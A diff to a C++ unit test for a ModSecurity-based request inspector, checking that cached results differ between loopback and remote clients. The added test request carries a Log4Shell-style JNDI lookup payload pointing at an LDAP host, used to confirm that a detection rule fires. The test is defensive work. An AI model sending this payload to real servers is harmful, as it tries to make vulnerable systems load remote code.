@@ -542,8 +542,13 @@ TEST(InspectorCache, DifferentBytesRunAgain) {
 TEST(InspectorCache, LoopbackClientKeyedApart) {
   MetricsRegistry metrics;
   Inspector inspector(baseConfig(1, 16), metrics);
-  auto request = makeRequest(
-      "GET", "/", {{"Host", "localhost"}, {"User-Agent", "Apache (internal dummy connection)"}});
+  // CRS 905110 turns the engine off for this request from a loopback client
+  // only (libmodsecurity 3.0.9 still finishes phase 1), so the same bytes
+  // give different phase 2 results by client address.
+  auto request = makeRequest("GET", "/",
+                             {{"Host", "localhost"},
+                              {"User-Agent", "Apache (internal dummy connection)"},
+                              {"X-Api-Version", "${jndi:ldap://192.0.2.10/a}"}});
   request.client = {"127.0.0.1", 40000};
 
   auto loopback = inspector.inspect(request, pageResponse(), {}, "a");
@@ -551,7 +556,9 @@ TEST(InspectorCache, LoopbackClientKeyedApart) {
   auto remote = inspector.inspect(request, pageResponse(), {}, "b");
 
   EXPECT_EQ(loopback.status, InspectionStatus::kComplete);
+  EXPECT_EQ(findMatch(loopback, "77100"), nullptr);
   EXPECT_EQ(remote.status, InspectionStatus::kComplete);
+  EXPECT_NE(findMatch(remote, "77100"), nullptr);
 }
 
 TEST(InspectorCache, EvictsLeastRecentlyUsed) {
